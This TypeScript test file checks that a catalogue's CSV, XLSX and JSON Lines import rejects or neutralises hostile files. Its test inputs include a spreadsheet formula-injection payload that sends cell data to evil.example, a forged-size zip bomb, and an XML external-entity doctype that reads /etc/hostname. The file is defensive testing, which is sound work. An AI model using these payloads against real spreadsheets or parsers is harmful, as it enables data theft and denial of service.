import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text as textOfStream } from 'node:stream/consumers';
import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { brandCatalogue, importRows } from '../../../test/support/catalogue-sheets.js';
import type { Catalogue, ProductEntry } from '../seed/catalogue-files.js';
import { text } from './cell-kinds.js';
import type { Column } from './columns.js';
import { csvCell, restored } from './csv-cells.js';
import { csvOf, readCsv } from './csv-file.js';
import { changesOfFile } from './sheet-file.js';
import { sheetOf } from './write-sheet.js';
import { readXlsx } from './xlsx-file.js';

const options = { today: '2026-11-24' };
let folder: string;
let shop: Catalogue;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'quiet-shop-files-'));
  shop = await brandCatalogue('ENC');
});
afterAll(() => rm(folder, { recursive: true, force: true }));

let files = 0;
const save = async (content: string | Uint8Array, ending: string): Promise<string> => {
  const path = join(folder, `${(files += 1)}${ending}`);
  await writeFile(path, content);
  return path;
};
const popularityIn = async (path: string): Promise<unknown> => {
  const { changes, faults } = await changesOfFile(path, shop, options);
  expect(faults.list()).toEqual([]);
  return changes.map(({ entry }) => (entry as ProductEntry).popularity);
};
const refusal = async (path: string): Promise<string> => {
  const found = await changesOfFile(path, shop, options).catch((error: unknown) => error);
  expect(found).toMatchObject({ name: 'SheetFileError' });
  return (found as Error).message;
};

describe('a CSV file', () => {
  it.each([
    ['commas', 'family,popularity\nPYR,7\n'],
    ['semicolons', 'family;popularity\r\nPYR;7\r\n'],
    ['tabs', 'family\tpopularity\nPYR\t7'],
    ['a byte order mark', '\uFEFFfamily;popularity\nPYR;7\n'],
    ["Excel's line of the separator", 'sep=;\r\nfamily;popularity\r\nPYR;7\r\n'],
    ['quoted cells and an empty line', '"family","popularity","# note"\n\n"PYR","7","a, ""b""\nc"\n'],
  ])('is read with %s', async (_, content) => expect(await popularityIn(await save(content, '.csv'))).toEqual([7]));

  it('is refused in another encoding than UTF-8', async () => {
    expect(await refusal(await save(Buffer.from('family;name de\nPYR;Dämmung\n', 'latin1'), '.csv'))).toContain('Save it as "CSV UTF-8"');
    expect(await refusal(await save(Buffer.from('\uFEFFfamily;popularity\nPYR;7\n', 'utf16le'), '.csv'))).toContain('not in UTF-8');
  });

  it('is refused with an open quote, or with more columns than a sheet has', async () => {
    expect(await refusal(await save('family,popularity\n"PYR,7\n', '.csv'))).toContain('is no CSV');
    expect(await refusal(await save(`family${','.repeat(1000)}\n`, '.csv'))).toBe('Row 1 has 1001 columns. At most 1000 are read.');
  });

  it('contains no text that a spreadsheet program runs as a formula, and returns it unchanged', async () => {
    const attack = '=HYPERLINK("http://evil.example?x="&A1;"price")';
    const family = shop.products.find(({ code }) => code === 'PYR')!;
    const hostile = {
      ...shop,
      products: [{ ...family, texts: { ...family.texts, de: { ...family.texts.de!, name: attack, purpose: '@SUM(1)', summary: '-1+1', description: ["'=1"] } } }],
    };
    const content = await textOfStream(csvOf(sheetOf(hostile), 'semicolon'));
    expect(content).toContain(`"'=HYPERLINK`);
    expect(content).not.toMatch(/[;\n"](?:=|@|-1\+)/);
    const { plan, faults } = await importRows(readCsv(await save(content, '.csv')), hostile);
    expect([faults, plan.entries]).toEqual([[], []]);
  });

  it('keeps every text, whatever it begins with', () => {
    const column = { row: { cell: text } } as Column;
    const start = fc.stringMatching(/^['=+\-@＝ a]{0,4}$/);
    fc.assert(fc.property(fc.tuple(start, fc.string()), ([one, other]) => expect(restored(csvCell(one + other, column, ','))).toBe(one + other)));
  });
});

const partsAround = (sheet: string, others: Record<string, Uint8Array> = {}): Record<string, Uint8Array> => ({
  '[Content_Types].xml': strToU8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
  '_rels/.rels': strToU8(
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
  ),
  'xl/workbook.xml': strToU8(
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="products" sheetId="1" r:id="rId1"/></sheets></workbook>',
  ),
  'xl/_rels/workbook.xml.rels': strToU8(
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  ),
  'xl/worksheets/sheet1.xml': strToU8(sheet),
  ...others,
});
const sheetXml = (rows: string, before = '') =>
  `<?xml version="1.0"?>${before}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
const cell = (ref: string, word: string) => `<c r="${ref}" t="inlineStr"><is><t>${word}</t></is></c>`;
const header = `<row r="1">${cell('A1', 'family')}${cell('B1', 'popularity')}</row>`;
const xlsx = (rows: string, before?: string) => zipSync(partsAround(sheetXml(rows, before)));

describe('an XLSX file', () => {
  it('is read with numbers, gaps, and the stored results of formulas', async () => {
    expect(await popularityIn(await save(xlsx(`${header}<row r="4">${cell('A4', 'PYR')}<c r="B4"><f>3+4</f><v>7</v></c></row>`), '.xlsx'))).toEqual([7]);
  });

  it('is refused when a part unpacks to more than it declares, or all to more than the bound', async () => {
    const bomb = xlsx(`${header}${' '.repeat(3_000_000)}`);
    // Sizes in the central directory, the last occurrence of each name.
    const at = Buffer.from(bomb).lastIndexOf('xl/worksheets/sheet1.xml') - 46 + 24;
    const declared = (size: number) => {
      const copy = Buffer.from(bomb);
      copy.writeUInt32LE(size, at);
      return copy;
    };
    expect(await refusal(await save(declared(2000), '.xlsx'))).toContain('zip bomb');
    expect(await refusal(await save(declared(2 ** 31), '.xlsx'))).toBe('The file unpacks to more than 1024 MB. Split it.');
    expect(await refusal(await save(declared(0), '.xlsx'))).toBe('The file unpacks to more than 1024 MB. Split it.');
  });

  it('is refused with a row or a column far outside', async () => {
    expect(await refusal(await save(xlsx(`${header}<row r="2000000000">${cell('A2000000000', 'PYR')}</row>`), '.xlsx'))).toBe('The file has more than 100000 rows. Split it.');
    expect(await refusal(await save(xlsx(`<row r="1">${cell('A1', 'family')}${cell('XFD1', 'popularity')}</row>`), '.xlsx'))).toBe(
      'Row 1 has 16384 columns. At most 1000 are read.',
    );
  });

  it('expands no entities of a document type', async () => {
    const doctype = '<!DOCTYPE x [<!ENTITY a "PYR"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/hostname">]>';
    const path = await save(xlsx(`${header}<row r="2">${cell('A2', '&c;')}${cell('B2', '&b;')}</row>`, doctype), '.xlsx');
    const rows = [];
    for await (const { cells } of readXlsx(path)) rows.push(cells);
    expect(rows).toEqual([
      ['family', 'popularity'],
      ['&c;', '&b;'],
    ]);
  });

  it('is refused when it is none, is cut off, or needs a password', async () => {
    expect(await refusal(await save('family;popularity', '.xlsx'))).toContain('cannot be read as XLSX');
    expect(await refusal(await save(xlsx(header).subarray(0, 400), '.xlsx'))).toContain('no XLSX');
    expect(await refusal(await save(zipSync({ 'word/document.xml': strToU8('<x/>') }), '.xlsx'))).toContain('cannot be read as XLSX');
    expect(await refusal(await save(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]), '.xlsx'))).toContain('password');
  });
});

describe('JSON Lines', () => {
  it('report each fault with its line', async () => {
    const pyr = shop.products.find(({ code }) => code === 'PYR')!;
    const lines = [
      '{"kind":"family"',
      '{"kind":"shelf","key":"A","entry":{}}',
      JSON.stringify({ kind: 'family', key: 'PYR', entry: { ...pyr, popularity: 7 } }),
      '',
      '{"kind":"colour","key":"red","entry":null}',
    ];
    const { faults, changes } = await changesOfFile(await save(lines.join('\n'), '.jsonl'), shop, options);
    expect(faults.list().map(({ row, column, message }) => `${row} ${column} ${message}`)).toEqual(['1  is no JSON', '2 kind is unknown', '5 entry is no entry']);
    expect(changes).toMatchObject([{ kind: 'family', key: 'PYR', entry: { popularity: 7 } }]);
  });
});

describe('a file', () => {
  it('needs a name that says its format, and must exist', async () => {
    expect(await refusal('products.ods')).toContain('must end with .csv');
    expect(await refusal(join(folder, 'none.csv'))).toContain('cannot be read (ENOENT)');
  });

  it('may be empty', async () => {
    const { changes } = await changesOfFile(await save('', '.csv'), shop, options);
    expect(changes).toEqual([]);
  });
});
